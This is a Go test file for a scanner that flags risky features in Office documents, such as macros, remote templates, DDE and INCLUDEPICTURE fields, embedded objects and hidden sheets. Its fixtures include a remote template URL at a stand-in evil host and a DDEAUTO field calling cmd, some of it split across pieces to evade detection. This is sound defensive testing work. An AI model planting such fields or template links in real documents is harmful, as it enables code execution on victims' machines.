package office_test

import (
	"archive/zip"
	"testing"

	"github.com/google/go-cmp/cmp"

	"legomem/must"
	"legomem/tools/facts"
	"legomem/tools/office"
	"legomem/tools/toolstest"
)

func TestMarks(t *testing.T) {
	rels := func(mode string) string {
		return `<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.org/t.dotm"` + mode + `/></Relationships>`
	}
	field := func(parts ...string) string {
		s := `<w:document xmlns:w="w"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
		for _, p := range parts {
			s += `<w:r><w:instrText>` + p + `</w:instrText></w:r>`
		}
		return s + `<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:document>`
	}
	for _, tc := range []struct {
		name, part, text string
		want             []facts.Mark
	}{
		{"plain", "word/document.xml", "<d/>", nil},
		{"macros", "xl/vbaProject.bin", "x", []facts.Mark{{Kind: facts.Macros, Detail: "xl/vbaProject.bin"}}},
		{"a macro type", "[Content_Types].xml", `<Types><Override PartName="/w.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`, []facts.Mark{{Kind: facts.Macros, Detail: "/w.xml"}}},
		{"OpenDocument macros", "Basic/script-lc.xml", "<x/>", []facts.Mark{{Kind: facts.Macros, Detail: "Basic/script-lc.xml"}}},
		{"a remote template", "word/_rels/settings.xml.rels", rels(` TargetMode="External"`), []facts.Mark{{Kind: facts.ExternalLink, Detail: "attachedTemplate http://evil.org/t.dotm"}}},
		{"a relation inside", "word/_rels/settings.xml.rels", rels(""), nil},
		{"another workbook", "xl/externalLinks/externalLink1.xml", "<x/>", []facts.Mark{{Kind: facts.ExternalLink, Detail: "xl/externalLinks/externalLink1.xml"}}},
		{"a connection", "xl/connections.xml", "<x/>", []facts.Mark{{Kind: facts.Fetching, Detail: "xl/connections.xml"}}},
		{"an object", "word/embeddings/oleObject1.bin", "x", []facts.Mark{{Kind: facts.Embedded, Detail: "word/embeddings/oleObject1.bin"}}},
		{"a hidden sheet", "xl/workbook.xml", `<workbook><sheets><sheet name="A"/><sheet name="B" state="veryHidden"/></sheets></workbook>`, []facts.Mark{{Kind: facts.HiddenSheet, Detail: "B"}}},
		{"a field that fetches", "word/document.xml", field(`DDEAUTO c:\cmd "x"`), []facts.Mark{{Kind: facts.Fetching, Detail: `DDEAUTO c:\cmd "x"`}}},
		{"one in pieces", "word/document.xml", field("DD", "EAUTO x"), []facts.Mark{{Kind: facts.Fetching, Detail: "DDEAUTO x"}}},
		{"a simple one", "word/header1.xml", `<w:p xmlns:w="w"><w:fldSimple w:instr=" INCLUDEPICTURE http://x "/></w:p>`, []facts.Mark{{Kind: facts.Fetching, Detail: "INCLUDEPICTURE http://x"}}},
		{"a page number", "word/document.xml", field("PAGE"), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := must.Have(office.Marks(toolstest.Zip(t, zip.Deflate, tc.part, tc.text)))(t)
			must.NoDiff(t, cmp.Diff(tc.want, got), "marks (-want +got):\n%s")
		})
	}
}

// TestMarksOfOthers: what is no package has no marks, and a broken one is an error.
func TestMarksOfOthers(t *testing.T) {
	if got := must.Have(office.Marks([]byte("plain text")))(t); got != nil {
		t.Errorf("a text has %v", got)
	}
	old := "\xd0\xcf\x11\xe0 _\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T\x00"
	if got := must.Have(office.Marks([]byte(old)))(t); len(got) != 1 || got[0].Kind != facts.Macros {
		t.Errorf("a macro of Office 97 is %v", got)
	}
	if _, err := office.Marks([]byte("PK\x03\x04 and nothing")); err == nil {
		t.Error("a broken package has no error")
	}
}
